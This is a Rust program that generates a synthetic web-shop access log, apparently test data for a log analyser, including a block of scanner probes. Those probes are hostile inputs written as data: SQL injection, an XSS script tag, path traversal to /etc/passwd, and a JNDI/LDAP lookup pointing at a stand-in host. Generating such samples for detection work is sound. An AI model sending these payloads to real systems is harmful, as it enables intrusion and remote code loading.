//! Writes the bundled sample log (`sample/access.log`): synthetic traffic of a small web shop over
//! two days in nginx/Apache formats, with the odd lines a real server writes (timeouts, TLS on the
//! plain port, an error-log line mixed in) so the sample shows rows and rejects, and a minute of a
//! vulnerability scanner's probes, so the security reports have something to show.
//!
//! `make-sample-log LINES SEED > sample/access.log`

use std::io::{BufWriter, Write};

use anyhow::bail;
use loglake_benches::{clf_timestamp, Rng};

/// 2026-11-01T00:00:00Z
const START: i64 = 1_793_491_200;
const SPAN_SECONDS: i64 = 2 * 86_400;

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
];
const BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
];
const PATHS: &[&str] = &[
    "/",
    "/",
    "/",
    "/products",
    "/products/espresso-machine",
    "/products/grinder",
    "/products/kettle",
    "/cart",
    "/checkout",
    "/search",
    "/about",
    "/blog/brewing-guide",
    "/static/app.js",
    "/static/app.css",
    "/static/logo.svg",
    "/favicon.ico",
    "/api/v1/stock",
];
const MISSING: &[&str] = &["/wp-login.php", "/.env", "/old-page", "/products/teapot"];
/// A scanner's minute: these requests, one after another, all answered 404.
const SCANNER_LINES: std::ops::Range<i64> = 1200..1230;
const SCANNER: &str = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)";
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/index.php?id=1%27%20or%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/?x=${jndi:ldap://198.51.100.66/a}",
    "/backup.sql",
    "/cgi-bin/test.cgi",
];

const REFERRERS: &[&str] = &[
    "-",
    "-",
    "https://shop.example.com/",
    "https://shop.example.com/products",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://news.example.org/post/42",
];

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [lines, seed] = args.as_slice() else {
        bail!("usage: make-sample-log LINES SEED");
    };
    let (lines, seed): (i64, u64) = (lines.parse()?, seed.parse()?);
    let mut rng = Rng::new(seed);
    let mut out = BufWriter::new(std::io::stdout().lock());
    for i in 0..lines {
        // Requests are logged when they finish, so timestamps run slightly out of order.
        let ts = START + i * SPAN_SECONDS / lines - rng.below(3) as i64;
        let time = clf_timestamp(ts);
        let client = format!("203.0.113.{}", 1 + rng.below(60));
        let roll = rng.below(1000);
        let line = match roll {
            0 => format!("{client} - - [{time}] \"-\" 408 - \"-\" \"-\""),
            1 => format!("{client} - - [{time}] \"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\" 400 157 \"-\" \"-\""),
            2 => format!("{} [error] 1234#1234: *{i} open() \"/srv/www/.env\" failed (2: No such file or directory), client: {client}, server: shop.example.com", clf_timestamp(ts).replace('/', "-")),
            3..=60 => {
                let path = rng.pick(MISSING);
                let ua = rng.pick(BOTS);
                format!("{client} - - [{time}] \"GET {path} HTTP/1.1\" 404 153 \"-\" \"{ua}\" 0.002")
            }
            _ => {
                let bot = roll < 160;
                let ua = if bot { rng.pick(BOTS) } else { rng.pick(BROWSERS) };
                let path = rng.pick(PATHS);
                let (method, status) = match (path, rng.below(20)) {
                    (&"/checkout", 0..=9) => ("POST", 303),
                    (&"/api/v1/stock", 0) => ("GET", 503),
                    (_, 0) if !bot => ("GET", 304),
                    _ => ("GET", 200),
                };
                let query = if *path == "/search" { format!("?q=coffee+{}", rng.below(50)) } else { String::new() };
                let bytes = if status == 200 { 200 + rng.below(90_000) } else { 0 };
                let referrer = rng.pick(REFERRERS);
                let user = if *path == "/checkout" && rng.below(3) == 0 { "customer42" } else { "-" };
                let request_time = (1 + rng.below(400)) as f64 / 1000.0;
                if roll % 10 == 0 {
                    format!("shop.example.com:443 {client} - {user} [{time}] \"{method} {path}{query} HTTP/2.0\" {status} {bytes} \"{referrer}\" \"{ua}\"")
                } else {
                    format!("{client} - {user} [{time}] \"{method} {path}{query} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{ua}\" {request_time:.3}")
                }
            }
        };
        let line = match SCANNER_LINES.contains(&i) {
            // the same draws as any line, so the rest of the sample stays as it was
            true => {
                let scan_time = clf_timestamp(START + SCANNER_LINES.start * SPAN_SECONDS / lines);
                let probe = PROBES[(i - SCANNER_LINES.start) as usize % PROBES.len()];
                format!("203.0.113.250 - - [{scan_time}] \"GET {probe} HTTP/1.1\" 404 153 \"-\" \"{SCANNER}\" 0.001")
            }
            false => line,
        };
        writeln!(out, "{line}")?;
    }
    out.flush()?;
    Ok(())
}
